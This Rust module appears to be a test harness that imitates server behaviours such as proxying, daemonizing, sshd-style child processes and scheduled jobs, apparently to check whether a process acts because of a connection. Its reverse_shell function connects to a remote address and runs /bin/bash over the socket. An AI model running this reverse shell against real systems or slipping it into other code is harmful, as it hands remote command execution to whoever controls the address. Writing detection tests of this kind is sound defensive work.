//! What real servers do in one go, without waiting for a command in between: whether a process has slept since it read
//! from a connection decides whether it acts because of that.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::os::fd::AsFd as _;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context as _, Result};
use nix::libc;
use nix::sys::wait::waitpid;
use nix::unistd::{ForkResult, alarm, fork, setsid};

use crate::{Actor, LIFETIME_S};

/// Long enough to have slept.
pub(crate) const NAP: Duration = Duration::from_millis(20);

/// `None`: not a command of this subject.
pub(crate) fn obey(actor: &mut Actor, words: &[&str]) -> Option<Result<String>> {
    Some(match words {
        ["proxy", remote] => proxy(actor, remote),
        ["on-request", "daemonize", remote] => on_request(actor, || daemonize(remote)),
        ["on-request", "shell", remote] => on_request(actor, || in_child(|| Err(reverse_shell(remote)))),
        ["privileges", remote] => separated(actor, remote),
        ["job", remote] => job(remote),
        _ => return None,
    })
}

/// Accepts a connection and makes the next one for it at once, as a proxy with a fixed destination does.
fn proxy(actor: &mut Actor, remote: &str) -> Result<String> {
    let (came, _) = actor.listener()?.accept()?;
    let goes = TcpStream::connect(remote)?;
    let local = goes.local_addr()?;
    actor.streams.extend([came, goes]);
    Ok(local.to_string())
}

/// Reads a byte of the last connection, and does something because of it.
pub(crate) fn on_request(actor: &mut Actor, act: impl FnOnce() -> Result<()>) -> Result<String> {
    actor.streams.last_mut().context("no connection")?.read_exact(&mut [0])?;
    act()?;
    Ok(String::new())
}

/// A daemon that connects after its parents have exited.
fn daemonize(remote: &str) -> Result<()> {
    in_child(|| {
        setsid()?;
        // SAFETY: no other thread is running, so nothing in the child is locked forever.
        match unsafe { fork() }? {
            ForkResult::Child => call(remote),
            ForkResult::Parent { .. } => Ok(()),
        }
    })
}

/// As sshd does: a child serves the connection, and its own child what is requested.
fn separated(actor: &mut Actor, remote: &str) -> Result<String> {
    let mut stream = actor.streams.pop().context("no connection")?;
    std::thread::sleep(NAP);
    in_child(|| {
        stream.read_exact(&mut [0])?;
        std::thread::sleep(NAP);
        in_child(|| call(remote))
    })?;
    Ok(String::new())
}

/// A scheduled job, which does not depend on a client.
fn job(remote: &str) -> Result<String> {
    std::thread::sleep(NAP);
    in_child(|| call(remote))?;
    Ok(String::new())
}

/// Sleeps, connects, sends a byte, and waits until the peer closes.
pub(crate) fn call(remote: &str) -> Result<()> {
    std::thread::sleep(NAP);
    let mut stream = TcpStream::connect(remote)?;
    stream.write_all(b"x")?;
    let mut rest = Vec::new();
    stream.read_to_end(&mut rest)?;
    Ok(())
}

/// Connects and becomes a shell that executes what it receives.
fn reverse_shell(remote: &str) -> anyhow::Error {
    std::thread::sleep(NAP);
    let shell = || -> Result<std::io::Error> {
        let stream = TcpStream::connect(remote)?;
        let socket = || stream.as_fd().try_clone_to_owned().map(Stdio::from);
        let mut command = Command::new("/bin/bash");
        Ok(command.stdin(socket()?).stdout(socket()?).stderr(socket()?).exec())
    };
    shell().map_or_else(|error| error, anyhow::Error::from)
}

/// Does `work` in a child, and waits for it to exit.
pub(crate) fn in_child(work: impl FnOnce() -> Result<()>) -> Result<()> {
    // SAFETY: no other thread is running, so nothing in the child is locked forever.
    match unsafe { fork() }? {
        ForkResult::Child => {
            alarm::set(LIFETIME_S);
            let status = i32::from(work().is_err());
            // SAFETY: the child must not run the parent's exit handlers or drop its guards.
            unsafe { libc::_exit(status) }
        }
        ForkResult::Parent { child } => {
            waitpid(child, None)?;
            Ok(())
        }
    }
}
